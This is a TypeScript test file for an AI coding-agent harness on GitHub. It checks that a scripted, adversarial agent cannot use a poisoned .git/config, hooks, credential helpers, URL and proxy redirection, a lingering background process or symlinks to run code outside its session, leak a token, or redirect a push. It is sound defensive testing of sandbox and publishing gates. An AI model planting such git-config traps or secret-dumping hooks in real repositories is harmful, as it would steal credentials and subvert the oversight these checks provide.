/** Whatever Claude's commands do to `.git`, none of it runs outside of them, sees a token or redirects the work. */
import { execFile } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { describe, expect, test } from 'vitest';
import { probeFence } from '../../src/claude/fence.ts';
import { bash, mcp, write } from '../../testkit/claude/tools.ts';
import { expectNoSecret, expectSuccess, expectTidy } from './expectations.ts';
import { lookAround } from './pulls.ts';
import { setStage } from './stage.ts';

/** Where planted commands leave their environment, and a server that nobody should ever ask. */
async function trap() {
  const traces = await mkdtemp(join(tmpdir(), 'traces-'));
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(`${request.method} ${request.url} ${JSON.stringify(request.headers)}`);
    response.writeHead(404).end();
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  return {
    traces,
    asked,
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`,
    /** What was run, by anybody: name and environment. */
    sprung: async () => {
      const names = await readdir(traces);
      const texts = await Promise.all(names.map((name) => readFile(join(traces, name), 'utf8')));
      return names.map((name, index) => ({ name, environment: texts[index]! }));
    },
    [Symbol.asyncDispose]: async () => {
      server.closeAllConnections();
      server.close();
      await rm(traces, { recursive: true, force: true });
    },
  };
}

const hooks = `applypatch-msg commit-msg fsmonitor-watchman post-checkout post-commit post-index-change post-merge
  post-rewrite pre-auto-gc pre-commit pre-merge-commit pre-push pre-rebase prepare-commit-msg push-to-checkout
  reference-transaction sendemail-validate update`;

/** Shell text that makes Git's configuration run a command, or go elsewhere, in every way that it knows. */
function sabotage({ traces, url }: { traces: string; url: string }, serverUrl: string): string {
  const plant = (name: string) => `"!sh -c 'env > ${traces}/${name}.$$' #"`;
  const command = (name: string) => `"sh -c 'env > ${traces}/${name}.$$' #"`;
  const config = `
[core]
  fsmonitor = ${command('fsmonitor')}
  hooksPath = .git/hooks
  sshCommand = ${command('ssh')}
  gitProxy = ${command('proxy')}
  askPass = ${command('askpass')}
  pager = ${command('pager')}
  editor = ${command('editor')}
  alternateRefsCommand = ${command('alternates')}
  attributesFile = ${traces}/attributes
[credential]
  helper = ${plant('credential')}
[credential "${serverUrl}"]
  helper = ${plant('credential-of-the-server')}
[url "${url}"]
  insteadOf = ${serverUrl}/
  pushInsteadOf = ${serverUrl}/
[http]
  proxy = ${url}
[remote "origin"]
  pushurl = ${url}octo-org/hello
  uploadpack = ${command('uploadpack')}
  receivepack = ${command('receivepack')}
  promisor = true
[filter "planted"]
  clean = ${command('clean')}
  smudge = ${command('smudge')}
  process = ${command('process')}
  required = true
[diff]
  external = ${command('diff')}
[gpg]
  program = ${command('gpg')}
[commit]
  gpgSign = true
[uploadpack]
  packObjectsHook = ${command('pack')}
[protocol]
  allow = always
[alias]
  push = ${plant('alias')}
[extensions]
  worktreeConfig = true
[include]
  path = ${traces}/included
`;
  return [
    `cat >> .git/config <<'END'\n${config}END`,
    `cp .git/config .git/config.worktree; touch .git/config.lock`,
    `mkdir -p .git/objects/info; echo ${traces} > .git/objects/info/alternates`,
    `mkdir -p .git/hooks .git/info; echo '* filter=planted diff=planted' > .git/info/attributes`,
    `for hook in ${hooks.replace(/\s+/g, ' ')}; do printf '#!/bin/sh\\nenv > ${traces}/hook-%s.$$\\n' $hook > .git/hooks/$hook; chmod +x .git/hooks/$hook; done`,
    `(setsid sleep 600 > /dev/null 2>&1 &)`,
    // Springs a trap on purpose: it shows that they work.
    'git status > /dev/null 2>&1; echo planted',
  ].join('\n');
}

const { usable: isFenced } = await probeFence();

test.each(['off', 'auto'])(
  'with `sandbox: %s` a hostile `.git/config` runs nothing, leads nowhere, and is put back; the commits arrive',
  async (sandbox) => {
    await using stage = await setStage();
    await using trapped = await trap();
    stage.model.script([
      () => ({ tools: [write(stage.path('WORK.md'), 'Work.\n')] }),
      { tools: [bash('git add -A && git commit -q -m "Do the work"')] },
      { tools: [bash(sabotage(trapped, stage.github.serverUrl))] },
      { tools: [mcp('github_file_ops', 'push_changes')] },
      () => ({ tools: [write(stage.path('LEFT.md'), 'Left uncommitted.\n')] }),
      { text: 'Done.' },
    ]);
    const run = await stage.mention('@claude work', { inputs: { ...lookAround, sandbox } });

    expectSuccess(run);
    const results = stage.model.toolResults();
    expect(results[2]!.text).toContain('planted');
    expect(results[3]).toMatchObject({ isError: false, text: expect.stringContaining('Published 1 commit') });
    const branch = run.outputs.branch_name!;
    expect(await stage.repository.file(branch, 'WORK.md')).toBe('Work.\n');
    expect(await stage.repository.file(branch, 'LEFT.md')).toBe('Left uncommitted.\n');
    expect(trapped.asked).toEqual([]);

    // What Claude's own commands spring runs with what Claude has, and with nothing more.
    const sprung = await trapped.sprung();
    if (sandbox === 'auto' && isFenced) expect(sprung).toEqual([]);
    else expect(sprung.map(({ name }) => name)).toContainEqual(expect.stringContaining('fsmonitor'));
    expect(sprung.filter(({ environment }) => !environment.includes('FORGEHAND_RUN='))).toEqual([]);
    expectNoSecret(Object.fromEntries(sprung.map(({ name, environment }) => [name, environment])), [
      stage.token,
    ]);
    expectTidy(run, stage);

    // A later step of the job is not caught either.
    const git = (...args: string[]) => promisify(execFile)('git', args, { cwd: stage.workspace });
    await git('status');
    await git('fetch', 'origin', 'main');
    await git('-c', 'user.name=x', '-c', 'user.email=x@y', 'commit', '-q', '--allow-empty', '-m', 'Later');
    expect(await trapped.sprung()).toHaveLength(sprung.length);
    expect(trapped.asked).toEqual([]);
    expect(existsSync(stage.path('.git/config.worktree'))).toBe(false);
  },
);

describe('what cannot be published safely is refused with the reason, and kept as a patch:', () => {
  const commit = 'git add -A && git commit -q -m "Do the work"';
  const cases: [string, string, RegExp][] = [
    [
      'a change of a workflow',
      `mkdir -p .github/workflows && echo 'on: push' > .github/workflows/own.yml && ${commit}`,
      /\.github\/workflows\/own\.yml/,
    ],
    [
      'a history that does not begin at the base',
      `B=$(git branch --show-current); git checkout -q --orphan other && ${commit}; git branch -qf $B other && git checkout -q $B`,
      /does not descend from/,
    ],
    ['a link that leads out of the tree', `ln -s /etc/passwd users && ${commit}`, /users/],
    [
      'a history without its objects',
      `${commit}; rm -rf .git/objects/??`,
      /commit [0-9a-f]{40} cannot be read/,
    ],
  ];

  test.each(cases)('%s', async (_, command, says) => {
    await using stage = await setStage();
    stage.model.script([
      () => ({ tools: [write(stage.path('WORK.md'), 'Work.\n')] }),
      { tools: [bash(command)] },
      { tools: [mcp('github_file_ops', 'push_changes')] },
      { text: 'It was refused.' },
    ]);
    const run = await stage.mention('@claude work', { inputs: lookAround, keep: true });

    expect(run.outputs).toMatchObject({ conclusion: 'failure', reason: 'gate_refused' });
    const refusal = stage.model.toolResults()[2]!;
    expect(refusal.isError).toBe(true);
    expect(refusal.text).toMatch(says);
    expect(Object.keys(stage.repository.branches())).toEqual(['main']);
    const answer = stage.repository.issue(1).comments[1]!.body;
    expect(answer).toMatch(says);
    const patch = /kept as a patch on the machine of this run: `([^`]+)`/.exec(answer)?.[1];
    expect(await readFile(patch!, 'utf8')).toContain('Work.');
    expectTidy(run, stage);
  });

  test('a `.git` that leads elsewhere', async () => {
    await using stage = await setStage();
    stage.model.script([
      () => ({ tools: [write(stage.path('WORK.md'), 'Work.\n')] }),
      { tools: [bash(`${commit}; mv .git ../elsewhere && ln -s ../elsewhere .git`)] },
      { tools: [mcp('github_file_ops', 'push_changes')] },
    ]);
    const run = await stage.mention('@claude work', {
      // In the fence there is no elsewhere.
      inputs: { claude_args: '--permission-mode bypassPermissions', sandbox: 'off' },
    });

    expect(run.outputs).toMatchObject({ conclusion: 'failure', reason: 'gate_refused' });
    expect(Object.keys(stage.repository.branches())).toEqual(['main']);
    expect(run.leftovers).toEqual([]);
    // Nothing is written through the link, and the person who set things up is told what was not put back.
    expect(await readFile(stage.path('../elsewhere/config'), 'utf8')).not.toContain('extraheader');
    expect(run.annotations.map(({ message }) => message)).toContainEqual(
      expect.stringContaining('`.git/config` was not put back'),
    );
  });
});
